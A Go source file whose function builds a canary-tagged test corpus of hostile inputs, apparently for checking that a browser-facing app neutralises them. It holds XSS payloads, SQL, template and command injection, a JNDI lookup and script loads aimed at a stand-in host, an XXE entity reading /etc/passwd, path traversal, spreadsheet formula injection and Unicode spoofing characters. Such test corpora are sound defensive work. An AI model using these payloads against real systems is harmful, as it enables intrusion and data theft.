package browser

import (
	"fmt"
	"slices"
	"strings"
)

// mark stands in every hostile text, so that pages can be searched for them; a script
// among them that runs leaves a global variable of this name.
const mark = "kanarie"

// hostileTexts are what people, and those who mean harm, put into fields: script for
// every place of a page that could run it, and writing that breaks pages and readers.
func hostileTexts() (list []string) {
	add := func(texts ...string) { list = append(list, texts...) }
	const run = "window.kanarie=1;alert(1)"
	for _, breakout := range []string{"", `"`, `'`, `">`, `'>`, `-->`, `</title>`, `</textarea>`, `</select>`, `</script>`, `</style>`, `</svg>`, `</noscript>`, `</template>`, `]]>`, `*/`, "`"} {
		add(breakout+"<script>"+run+"</script>kanarie", breakout+"<img src=x onerror="+run+">kanarie", breakout+"<svg/onload="+run+">kanarie")
	}
	for n, event := range strings.Fields(`load error click dblclick mousedown mouseup mouseover mouseenter mousemove mouseout focus focusin blur keydown keyup keypress
		input change submit reset select toggle beforetoggle animationstart animationend animationiteration transitionend transitionrun wheel scroll scrollend copy cut paste
		drag dragstart drop pointerdown pointerover pointerenter touchstart touchend contextmenu auxclick beforeinput beforeprint afterprint hashchange popstate message
		pageshow pagehide resize unload beforeunload storage online offline begin end repeat loadstart loadeddata canplay playing timeupdate volumechange ratechange
		waiting stalled suspend progress seeked cuechange securitypolicyviolation slotchange invalid formdata fullscreenchange selectionchange selectstart search close cancel`) {
		tag := []string{"body", "input autofocus", "details open", "video src=x", "a tabindex=1", "svg", "marquee", "select autofocus", "button autofocus", "style", "audio src=x", "iframe"}[n%12]
		add(fmt.Sprintf(`"><%s on%s=%s>kanarie`, tag, event, run), fmt.Sprintf(`kanarie' on%s='%s' x='`, event, run))
	}
	for _, address := range []string{"javascript:" + run, "JaVaScRiPt:" + run, "java\tscript:" + run, "java\nscript:" + run, "&#106;avascript:" + run, "javascript&colon;" + run, "\x01javascript:" + run,
		"vbscript:MsgBox(1)", "data:text/html,<script>" + run + "</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=" + run + ">",
		"//kanarie.invalid/x.js", "https:kanarie.invalid", "\\\\kanarie.invalid\\share", "file:///etc/passwd", "blob:https://kanarie.invalid/1", "view-source:x", "about:blank", "jar:file:x!/y", "feed:javascript:" + run,
		"mailto:a@kanarie.invalid?bcc=b", "tel:+1", "intent://kanarie#Intent;end", "ms-word:ofe|u|x", "filesystem:x"} {
		add(address+" kanarie", `<a href="`+address+`" autofocus>kanarie</a>`)
	}
	for _, element := range []string{"iframe srcdoc='<script>" + run + "</script>'", "object data=javascript:" + run, "embed src=javascript:" + run, "base href=//kanarie.invalid/", "meta http-equiv=refresh content='0;url=//kanarie.invalid'",
		"link rel=stylesheet href=//kanarie.invalid", "form action=//kanarie.invalid", "button formaction=javascript:" + run, "input type=image src=//kanarie.invalid", "style>*{display:none}</style", "style>@import '//kanarie.invalid';</style",
		"math><mtext><table><mglyph><style><img src=x onerror=" + run, "svg><animate onbegin=" + run + " attributeName=x dur=1s", "svg><use href=data:image/svg+xml,x", "template><script>" + run, "noscript><p title='</noscript><img src=x onerror=" + run + ">'",
		"div style=position:fixed;inset:0;background:red", "img id=kanarie name=kanarie", "form id=kanarie><input name=attributes", "a id=kanarie href=x", "plaintext", "xmp", "listing", "comment", "frameset onload=" + run, "portal src=x", "body background=//kanarie.invalid",
		"table background=javascript:" + run, "isindex action=javascript:" + run, "bgsound src=x", "dialog open", "slot name=x", "img srcset=//kanarie.invalid", "link rel=preload href=//kanarie.invalid as=script", "script type=module src=//kanarie.invalid", "script src=data:," + run} {
		add("<"+element+">kanarie", `">`+"<"+element+">kanarie")
	}
	add(`{{.}}kanarie`, `{{template "main"}}kanarie`, `{{printf "%s" .Token}}kanarie`, `${kanarie}`, `#{7*7}kanarie`, `<%= kanarie %>`, `{% kanarie %}`, `{{constructor.constructor('kanarie=1')()}}`, `[[kanarie]]`, `@(kanarie)`, `*{kanarie}`, `~{kanarie}`,
		`%{kanarie}`, `$(touch kanarie)`, "`kanarie`", `;kanarie`, `|kanarie`, `&&kanarie`, `%s%s%s%n kanarie`, `%x%p kanarie`, `{0}kanarie`, `$kanarie$`, `<!--#exec cmd="kanarie"-->`, `<?php kanarie(); ?>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY k SYSTEM "file:///etc/passwd">]>kanarie&k;`, `${jndi:ldap://kanarie.invalid/a}`)
	add(`' OR '1'='1 kanarie`, `kanarie'; DROP TABLE messages; --`, `kanarie" OR ""="`, `1; SELECT pg_sleep(9) kanarie`, `kanarie' UNION SELECT null,null--`, `kanarie%' ESCAPE '!`, `kanarie\'; --`, `kanarie'||'x`, `0x6b616e kanarie`, `kanarie/**/OR/**/1=1`, `kanarie' AND randomblob(900000000) --`, `kanarie'; ATTACH DATABASE 'x' AS y; --`, `_%_kanarie`, `*)(uid=*)kanarie`, `kanarie MATCH "x*"`, `NEAR(kanarie, 9)`)
	add(`../../../../etc/passwd kanarie`, `..\..\..\windows\win.ini kanarie`, `%2e%2e%2fkanarie`, `..%c0%afkanarie`, `....//kanarie`, `/dev/null kanarie`, `CON kanarie`, `kanarie.`, `kanarie::$DATA`, `~/kanarie`, `kanarie;.pdf`, `kanarie%00.pdf`, `C:\kanarie`, `./.git/kanarie`, `kanarie?x#y`, `kanarie/../..`)
	for _, formula := range []string{"=1+1", "=kanarie()", "@SUM(1+1)", "+1+1", "-1+1", "=HYPERLINK(\"//kanarie.invalid\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "=IMPORTXML(1)", "\"=1+1", ";=1+1", ",=1+1", "'=1+1", "%0A=1+1"} {
		add(formula + " kanarie")
	}
	for _, code := range []string{"\x1b[31m", "\x1b]0;kanarie\a", "\x1b[2J", "\x1b]8;;//kanarie.invalid\x1b\\", "\u009b31m", "\x07", "\x08\x08", "\x7f", "\x00", "\x01", "\x0b", "\x0c", "\x0e", "\x1f", "\u0080", "\u0085", "\u2028", "\u2029", "\r\nSet-Cookie: kanarie=1", "\r\n\r\n", "\n", "\ufffe", "\uffff", "\ufffd", "\U0001ffff"} {
		add("kanarie"+code+"x", code+"kanarie")
	}
	for c := rune(0x202a); c <= 0x202e; c++ {
		add("kanarie"+string(c)+"fdp.exe", string(c)+"kanarie")
	}
	for _, c := range "\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u17b4\u180e\u2061\u206a\u3164\uffa0\ufff9\U000e0001\U000e0041\U000e007f\ufe0f\U0001d173" {
		add("kana"+string(c)+"rie kanarie", string(c)+"kanarie")
	}
	for _, c := range "\u0300\u0316\u0338\u0489\u0e47\u20dd\u20e3\u0f84\u1ab0\ua670" {
		add("kanarie" + strings.Repeat(string(c), 60))
	}
	for _, text := range []string{"👩‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e007f", "🇧🇪🇳🇱", "👍🏿", "1️⃣", "❤️‍🔥", "🫠", "قاسم الحسيني", "יצחק \u200eבן דוד", "ܐܒܓܕ", "ދިވެހި", "ߒߞߏ", "田中太郎", "김철수", "नमस्ते", "ສະບາຍດີ", "ကြိုဆိုပါတယ်", "𝕶𝖆𝖓𝖆𝖗𝖎𝖊", "𝔎𝔞𝔫", "ＫＡＮ", "Ⓚⓐⓝ", "кanаriе", "ƙąñ", "İıŞş", "ßẞ", "ǅ", "ﬁﬂ", "ﷺ", "﷽", "𒐫", "꧅", "⸻", "ௌ", "ᚠᚡ", "ꙮ", "Ａ̷̛͕͖", "O'Brien-Müller", "van der Østergård", "Nuñez y Ibáñez", "X Æ A-12", "null", "undefined", "NaN", "true", "None", "-0", "1e309", "0x10", "[object Object]", "NULL"} {
		add("kanarie "+text, text+" kanarie")
	}
	for _, length := range []int{40, 100, 160, 240} {
		for _, piece := range []string{"W", "i", "ﷺ", "ש", "漢", "\u0e33", "_", ".", "/", "👩", "-", "\u00a0"} {
			add("kanarie" + strings.Repeat(piece, length/len([]rune(piece))))
		}
	}
	for _, entity := range []string{"&lt;script&gt;", "&#x3c;img&#x3e;", "&amp;lt;", "&NewLine;", "&#0;", "&#x202e;", "&quot;&apos;", "&zwnj;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript", "+ADw-script+AD4-", "\u00bcscript\u00be", "\uff1cscript\uff1e", "\u2039script\u203a"} {
		add(entity+"kanarie", "kanarie"+entity)
	}
	slices.Sort(list)
	return slices.Compact(list)
}
